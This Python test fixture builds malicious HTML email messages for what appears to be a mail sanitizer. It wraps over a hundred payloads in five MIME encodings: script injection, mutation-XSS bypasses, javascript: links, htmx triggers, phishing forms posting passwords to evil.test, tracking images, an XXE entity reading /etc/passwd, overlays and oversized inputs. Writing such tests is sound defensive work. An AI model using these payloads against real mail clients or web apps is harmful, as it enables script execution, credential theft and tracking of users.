"""HTML that wants to act, load, cover or hide, in every wrapping in which mail carries HTML. Each says “Hello”."""

import base64
import quopri

PWN = "window.pwned=1;fetch('http://evil.test/x')"
PAYLOADS = {
    "script": f"<script>{PWN}</script>",
    "script far": "<script src=http://evil.test/x.js></script>",
    "script as module": "<script type=module>import 'http://evil.test/x.js'</script>",
    "script in capitals": f"<SCRIPT>{PWN}</SCRIPT>",
    "script split": f"<scr<script>ipt>{PWN}</scr</script>ipt>",
    "script with a slash": f"<script/x>{PWN}</script>",
    "script in svg": f"<svg><script>{PWN}</script></svg>",
    "script in math": f"<math><annotation-xml encoding=text/html><script>{PWN}</script></annotation-xml></math>",
    "script out of a comment": f"<!--><script>{PWN}</script>-->",
    "script out of a comment with a bang": f"<!--x--!><script>{PWN}</script>",
    "script out of cdata": f"<svg><![CDATA[><script>{PWN}</script>]]></svg>",
    "script out of a title": f"<title></title><script>{PWN}</script></title>",
    "script out of a style": f"<style></style ><script>{PWN}</script></style>",
    "script out of a textarea": f"<textarea></textarea><script>{PWN}</script>",
    "script out of noscript": f'<noscript><p title="</noscript><script>{PWN}</script>">',
    "script by mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={PWN}&gt;">',
    "script by mutation in svg": f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
    "script by form mutation": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>',
    "script by template": f"<template><script>{PWN}</script></template>",
    "shadow root": f"<div><template shadowrootmode=open><script>{PWN}</script></template></div>",
    "onerror": f"<img src=x onerror={PWN}>",
    "onerror without blanks": f"<img/src=x/onerror={PWN}>",
    "onerror in quotes": f'<img src="x" onerror="{PWN}">',
    "onload of svg": f"<svg onload={PWN}>",
    "onload of body": f"<body onload={PWN}>",
    "ontoggle": f"<details open ontoggle={PWN}>x</details>",
    "onfocus": f"<a href=# autofocus tabindex=1 onfocus={PWN}>x</a>",
    "onanimationstart": f"<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={PWN}>x</b>",
    "onbegin": f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    "onstart": f"<marquee onstart={PWN}>x</marquee>",
    "onbeforematch": f"<p hidden=until-found onbeforematch={PWN}>x</p>",
    "onpointerover": f"<p onpointerover={PWN}>x</p>",
    "javascript link": f"<a href='javascript:{PWN}'>x</a>",
    "javascript link with tab": f"<a href='jav&#9;ascript:{PWN}'>x</a>",
    "javascript link with control": f"<a href='&#1;javascript:{PWN}'>x</a>",
    "javascript link in capitals": f"<a href='JaVaScRiPt:{PWN}'>x</a>",
    "javascript link in svg": f"<svg><a xlink:href='javascript:{PWN}'><text>x</text></a></svg>",
    "vbscript link": "<a href='vbscript:msgbox(1)'>x</a>",
    "data link": f"<a href='data:text/html,<script>{PWN}</script>'>x</a>",
    "blob link": "<a href='blob:http://evil.test/1'>x</a>",
    "file link": "<a href='file:///etc/passwd'>x</a>",
    "link without scheme": "<a href=//evil.test/x>x</a>",
    "link of our own": "<a href=/w/acme/settings>x</a>",
    "ping": "<a href=http://fine.test ping=http://evil.test/ping>x</a>",
    "download": "<a href=http://fine.test download=x.exe>x</a>",
    "htmx get": "<p hx-get=/w/acme/members hx-trigger=load>x</p>",
    "htmx post": "<p hx-post=/w/acme/settings hx-trigger='every 1s'>x</p>",
    "htmx with data": "<p data-hx-get=/w/acme/members data-hx-trigger=load>x</p>",
    "htmx on": f"<p hx-on:click='{PWN}' hx-on::load='{PWN}'>x</p>",
    "htmx boost": "<div hx-boost=true><a href=/logout>x</a></div>",
    "htmx out of band": "<div hx-swap-oob=true id=toasts>x</div>",
    "htmx vars": f"<p hx-vals='js:{{x:({PWN})}}' hx-get=/w/acme hx-trigger=load>x</p>",
    "streams": "<p sse-connect=http://evil.test ws-connect=ws://evil.test hx-ext='sse,ws'>x</p>",
    "live region of ours": "<div data-live=ticket data-live-url=http://evil.test>x</div>",
    "element of ours": "<copy-button data-text=x>x</copy-button><row-list>x</row-list>",
    "command of ours": "<button data-key=s data-command=x formaction=/logout>x</button>",
    "form": "<form action=http://evil.test method=post><input name=password><input type=submit></form>",
    "form of ours": "<form action=/w/acme/settings method=post><input name=name value=x></form>",
    "button of a form elsewhere": "<button form=say formaction=http://evil.test>x</button>",
    "isindex": "<isindex action=http://evil.test>",
    "select": "<select autofocus><option>x</select>",
    "frame": f"<iframe srcdoc='<script>{PWN}</script>'></iframe>",
    "frame far": "<iframe src=http://evil.test></iframe>",
    "frame of javascript": f"<iframe src='javascript:{PWN}'></iframe>",
    "frameset": "<frameset><frame src=http://evil.test></frameset>",
    "object": "<object data=http://evil.test/x.swf></object>",
    "embed": "<embed src=http://evil.test/x.swf>",
    "applet": "<applet code=x archive=http://evil.test/x.jar></applet>",
    "portal": "<portal src=http://evil.test></portal>",
    "fenced frame": "<fencedframe src=http://evil.test></fencedframe>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "base": "<base href=http://evil.test/>",
    "link style": "<link rel=stylesheet href=http://evil.test/x.css>",
    "link preload": "<link rel=preload as=image href=http://evil.test/x.png>",
    "link prefetch": "<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=http://evil.test>",
    "import of style": "<style>@import url(http://evil.test/x.css);</style>",
    "overlay": "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>x</div>",
    "overlay by class": "<div class='dialog menu toasts overlay'>x</div>",
    "overlay by popover": "<div popover=manual id=p>x</div><button popovertarget=p>x</button>",
    "overlay by dialog": "<dialog open>x</dialog>",
    "overlay by margin": "<div style='margin-top:-9999px'>x</div>",
    "hidden": "<div style='display:none'>x</div>",
    "giant": "<p style='font-size:99999px'>x</p>",
    "background": "<p style='background:url(http://evil.test/x.png)'>x</p>",
    "background attribute": "<table background=http://evil.test/x.png><tr><td background=http://evil.test/y.png>x</table>",
    "image": "<img src=http://evil.test/x.png>",
    "image secure": "<img src=https://evil.test/x.png width=1 height=1>",
    "image without scheme": "<img src=//evil.test/x.png>",
    "image set": "<img srcset='http://evil.test/x.png 2x'>",
    "image low": "<img lowsrc=http://evil.test/x.png dynsrc=http://evil.test/y.png>",
    "picture": "<picture><source srcset=http://evil.test/x.png><img src=http://evil.test/y.png></picture>",
    "input image": "<input type=image src=http://evil.test/x.png>",
    "image in svg": "<svg><image href=http://evil.test/x.png /><use href=http://evil.test/x.svg#a /></svg>",
    "image filtered in svg": "<svg><filter id=f><feImage href=http://evil.test/x.png /></filter></svg>",
    "image as data": "<img src='data:image/svg+xml,<svg onload=1>'>",
    "image of another mail": "<img src=cid:nobody@nowhere>",
    "image of ours": "<img src=/w/acme/files/x>",
    "image of a smb host": r"<img src='\\evil.test\x.png'>",
    "image of ftp": "<img src=ftp://evil.test/x.png>",
    "video": "<video src=http://evil.test/x.mp4 poster=http://evil.test/x.png autoplay></video>",
    "audio": "<audio src=http://evil.test/x.mp3 autoplay></audio>",
    "track": "<video><track src=http://evil.test/x.vtt default></video>",
    "cite": "<blockquote cite=http://evil.test/x>x</blockquote>",
    "longdesc": "<img alt=x longdesc=http://evil.test/x>",
    "manifest": "<html manifest=http://evil.test/x>",
    "clobbering id": "<a id=body></a><a id=cookie name=cookie></a><form name=body></form>",
    "clobbering name": "<img name=getElementById><a name=__proto__></a>",
    "contenteditable": "<p contenteditable accesskey=s>x</p>",
    "is": "<p is=copy-button>x</p>",
    "slot": "<p slot=x part=y exportparts=z>x</p>",
    "xml island": "<xml id=x><i>x</i></xml>",
    "conditional comment": f"<!--[if mso]><script>{PWN}</script><![endif]-->",
    "processing instruction": f"<?xml-stylesheet href='javascript:{PWN}'?>",
    "entity": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
    "nul in a tag": f"<scr\x00ipt>{PWN}</scr\x00ipt>",
    "null in a handler": f"<img src=x one\x00rror={PWN}>",
    "unclosed": "<div><table><tr><td><b><i><a href=http://x.test>",
    "closing what is not open": "</div></article></main></body></html>",
    "end of our page": "</div></div></section></main></body></html><p>",
    "plaintext": "<plaintext>",
    "xmp": f"<xmp><script>{PWN}</script></xmp>",
    "listing": f"<listing><script>{PWN}</script></listing>",
    "deep": "<div>" * 400,
    "deep lists": "<ul><li>" * 300,
    "many attributes": "<p " + " ".join(f"a{number}=1" for number in range(3_000)) + ">x</p>",
    "long attribute": f"<p title='{'x' * 50_000}'>x</p>",
    "many entities": "&amp;" * 20_000,
    "right to left": "<bdo dir=rtl>olleh</bdo>\u202eevil\u202c",
    "combining signs": "x" + "\u0301" * 3_000,
    "private signs": "\ue000\uf8ff\U000f0000",
}  # fmt: skip
GREETING = "<p>Hello</p>"


def _whole(html: bytes, encoding: str, data: bytes) -> bytes:
    return b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: " + encoding.encode() + b"\r\n\r\n" + data


def plain(html: bytes) -> bytes:
    return _whole(html, "8bit", html)


def in_base64(html: bytes) -> bytes:
    return _whole(html, "base64", base64.encodebytes(html))


def in_quoted_printable(html: bytes) -> bytes:
    return _whole(html, "quoted-printable", quopri.encodestring(html))


def as_alternative(html: bytes) -> bytes:
    return (
        b'Content-Type: multipart/alternative; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n--b\r\n'
        + plain(html)
        + b"\r\n--b--\r\n"
    )


def as_related(html: bytes) -> bytes:
    picture = b"Content-Type: image/png\r\nContent-ID: <p@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo="
    return b'Content-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n' + in_base64(html) + b"\r\n--b\r\n" + picture + b"\r\n--b--\r\n"


WRAPPINGS = (plain, in_base64, in_quoted_printable, as_alternative, as_related)


def html_of(payload: str) -> bytes:
    return (GREETING + payload).encode("utf-8", "replace")


def cases() -> dict[str, bytes]:
    """Name → mail."""
    made = {}
    for number, (name, payload) in enumerate(PAYLOADS.items()):
        # Each payload in two wrappings, so that each wrapping meets every kind of payload.
        for wrap in (WRAPPINGS[number % 5], WRAPPINGS[(number + 2) % 5]):
            head = f"From: Mallory <mallory@evil.test>\r\nSubject: {name.encode('ascii', 'replace').decode()}\r\nMIME-Version: 1.0\r\n".encode()
            made[f"{name}, {wrap.__name__}"] = head + wrap(html_of(payload))
    return made
